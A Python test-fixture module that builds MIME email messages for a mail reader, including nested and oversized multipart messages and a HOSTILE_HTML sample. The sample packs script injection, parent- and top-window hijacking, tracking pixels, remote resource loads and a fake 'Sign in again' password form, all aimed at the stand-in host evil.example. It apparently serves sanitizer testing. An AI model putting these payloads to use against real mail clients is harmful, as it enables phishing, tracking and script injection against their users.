"""Messages for what reads them: one as programs write it, and such as nobody means well with."""

from __future__ import annotations

import base64

PNG = b"\x89PNG"


def alternatives(*parts: bytes) -> bytes:
    """Write a multipart/alternative of these parts."""
    return _multipart("alternative", *parts)


def mixed(html: bytes = b'<p>Hello</p><img src="cid:logo@example.org">') -> bytes:
    """Write a message with a text, this HTML with a picture of its own, and a file with a Japanese name."""
    related = _multipart(
        "related",
        b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html,
        b"Content-Type: image/png; name=logo.png\r\nContent-ID: <logo@example.org>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(PNG).rstrip().replace(b"\n", b"\r\n"),
    )
    text = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "各位".encode()
    pdf = base64.encodebytes(b"%PDF" * 250).rstrip().replace(b"\n", b"\r\n")
    name = "%E6%9C%88%E6%AC%A1%E3%83%AC%E3%83%9D%E3%83%BC%E3%83%88_11%E6%9C%88.pdf"
    file = (
        f"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''{name}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + pdf
    head = (
        b"Message-ID: <1@app.example.org>\r\nDate: Thu, 26 Nov 2026 10:28:44 +0900\r\nSubject: =?utf-8?B?5pyI5qyh?=\r\n"
    )
    return head + b"MIME-Version: 1.0\r\n" + _multipart("mixed", _multipart("alternative", text, related), file)


def many_parts(number: int) -> bytes:
    """Write a message in so many parts."""
    return _multipart("mixed", *(b"Content-Type: image/png\r\n\r\nx" for _ in range(number)))


def deep(levels: int) -> bytes:
    """Write a message with so many levels of parts within parts."""
    message = b"Content-Type: text/plain\r\n\r\nx"
    for level in range(levels):
        message = _multipart("mixed", message, boundary=f"b{level}")
    return message


def _multipart(subtype: str, *parts: bytes, boundary: str = "") -> bytes:
    boundary = boundary or f"=_{subtype}"
    within = b"".join(b"--%b\r\n%b\r\n" % (boundary.encode(), part) for part in parts)
    return (
        f'Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n'.encode()
        + within
        + f"--{boundary}--\r\n".encode()
    )


HOSTILE_HTML = """<!doctype html><html><head><base href="http://evil.example/"><meta http-equiv="refresh"
 content="0;url=http://evil.example/refresh"><link rel="stylesheet" href="http://evil.example/a.css">
<link rel="preconnect" href="http://evil.example"><link rel="dns-prefetch" href="//evil.example">
<link rel="icon" href="http://evil.example/icon.png">
<style>@import "http://evil.example/import.css"; @font-face{font-family:x;src:url(http://evil.example/font.woff)}
body{background:url("http://evil.example/bg.png");font-family:x} @\\69mport url(http://evil.example/escaped.css);
.over{position:fixed;inset:0;width:300vw;height:300vh;background:red;z-index:99999}</style></head>
<body onload="parent.document.title='owned'"><p id="mail-text">Hello</p>
<script>parent.document.title='owned';fetch('http://evil.example/script')</script>
<script src="http://evil.example/remote.js"></script>
<img src="http://evil.example/pixel.gif" onerror="top.location='http://evil.example/top'">
<img srcset="http://evil.example/set.png 1x" src="//evil.example/two.png">
<img src="cid:logo@example.org" id="own"><svg onload="alert(1)"><image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object>
<video src="http://evil.example/video" autoplay></video><audio src="http://evil.example/audio" autoplay></audio>
<form id="form" action="http://evil.example/form" method="post"><input name="password" autofocus>
<button id="press" formaction="http://evil.example/button">Sign in again</button></form>
<a id="script-link" href="javascript:parent.document.title='owned'">one</a>
<a id="top-link" target="_top" href="http://evil.example/top-link" ping="http://evil.example/ping">two</a>
<a id="own-link" target="_parent" href="/logout">three</a>
<div class="over" style="background-image:url('http://evil.example/div.png')"></div>
<table background="http://evil.example/table.png"><tr><td>x</td></tr></table></body></html>"""
